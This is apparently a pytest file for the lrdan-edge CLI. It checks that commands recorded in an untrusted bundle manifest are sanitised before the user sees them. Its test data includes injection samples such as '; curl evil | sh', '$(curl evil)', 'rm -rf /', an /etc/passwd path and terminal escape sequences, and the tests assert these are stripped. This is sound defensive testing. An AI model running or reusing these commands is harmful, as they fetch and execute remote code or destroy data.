"""The commands that a stranger's manifest records are shown to the user as commands to run: only what a stage records comes back."""

import shlex
from pathlib import Path

import click
import msgspec
import pytest
from click.testing import CliRunner
from strangers import new_bundle

from lrdan_edge.bundle.bundle import Bundle
from lrdan_edge.bundle.command import RECORDED, Command
from lrdan_edge.bundle.manifest import manifest_to_json
from lrdan_edge.cli.main import cli

GIVEN = [
    "lrdan-edge train /data/parts --recipe lrdan --seed 0 --image-size 64x64 --roi 0,0,8,8 --tiles 2x3 --device cpu",
    "lrdan-edge train 'a folder' --known-defects 'another one' --group-by none",
    "lrdan-edge export --frame-size 480x640",
    "lrdan-edge calibrate --false-reject-rate 0.02 --threshold-from conformal --method min-max --method percentile-99.99 --no-int8",
    "lrdan-edge calibrate --decision-only --good /g --defects /d --recall 0.9",
    "lrdan-edge build-engine --fp16 --target tensorrt --batch 1:1:8 --workspace 512 --dla 0 --version-compatible --refit",
    "lrdan-edge evaluate /data --backend onnxruntime --int8",
    "lrdan-edge bench --batch 1 --batch 8 --seconds 20 --rounds 10",
]


@pytest.mark.parametrize("line", GIVEN)
def test_what_a_stage_records_comes_back_word_for_word(line: str) -> None:
    assert str(Command.recorded(line)) == line
    again = Command.recorded(line).with_options(bundle="b")
    assert str(again) == f"{line} --bundle b"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("lrdan-edge train /home/victim --bundle /home/victim/prod --overwrite", "lrdan-edge train /home/victim"),
        ("lrdan-edge bench --overwrite --rounds 3", "lrdan-edge bench --rounds 3"),
        ("lrdan-edge train /d --tensorboard /etc", "lrdan-edge train"),
        ("lrdan-edge train /d --bundle=/home/victim", "lrdan-edge train"),
        ("lrdan-edge train /d -b /home/victim", "lrdan-edge train"),
        ("lrdan-edge train /d /e", "lrdan-edge train"),
        ("lrdan-edge train -- /d", "lrdan-edge train"),
        ("lrdan-edge train /d --seed", "lrdan-edge train"),
        ("lrdan-edge build-engine --fp16 --verbose-log /etc/passwd", "lrdan-edge build-engine"),
        ("lrdan-edge export ; curl evil | sh", "lrdan-edge export"),
        ("lrdan-edge export '$(curl evil)'", "lrdan-edge export"),
        ("lrdan-edge calibrate \x1b]0;PWNED\x07", "lrdan-edge calibrate"),
        ("lrdan-edge calibrate --good '\x1b[2K\r'", "lrdan-edge calibrate"),
        ("lrdan-edge calibrate --good 'a\nb'", "lrdan-edge calibrate"),
        ("lrdan-edge engine trust x --sha256 0", "lrdan-edge info"),
        ("lrdan-edge run rtsp://evil", "lrdan-edge info"),
        ("lrdan-edge 'engine trust' x", "lrdan-edge info"),
        ("rm -rf /", "lrdan-edge info"),
        ("'", "lrdan-edge info"),
        ("", "lrdan-edge info"),
    ],
)
def test_everything_else_is_left_out(line: str, expected: str) -> None:
    assert str(Command.recorded(line)) == expected


def test_recorded_options_are_those_of_the_command_line() -> None:
    """An option that is renamed, or a value that becomes a flag, is noticed here."""
    for name, known in RECORDED.items():
        parameters = cli.get_command(click.Context(cli), name).params  # type: ignore[union-attr]
        options = [each for each in parameters if isinstance(each, click.Option)]
        words = {text: each for each in options for text in (*each.opts, *each.secondary_opts)}
        assert all(not words[f"--{option}"].is_flag for option in known.options)
        assert all(words[f"--{flag}"].is_flag for flag in known.flags)
        assert known.arguments == len(parameters) - len(options)
        assert not {"bundle", "overwrite", "resume", "tensorboard", "verbose-log", "output"} & {*known.options, *known.flags}


def test_no_command_shows_a_strangers_options(tmp_path: Path) -> None:
    bundle = new_bundle(tmp_path / "b")
    evil = "lrdan-edge train /home/victim --bundle /home/victim/prod --overwrite --tensorboard /etc"
    for record in bundle.manifest.stages.values():
        msgspec.structs.force_setattr(record, "command", evil)
    (bundle.path / "manifest.json").write_bytes(manifest_to_json(bundle.manifest))
    (bundle.path / "weights.safetensors").write_bytes(b"changed")
    shown = " ".join(CliRunner().invoke(cli, ["info", "-b", str(bundle.path)]).output.split())
    assert f"'lrdan-edge train --overwrite --bundle {shlex.quote(str(bundle.path))}'" in shown
    assert "victim" not in shown
    assert "/etc" not in shown
    assert Bundle.open(bundle.path).manifest.stages["train"].command == evil
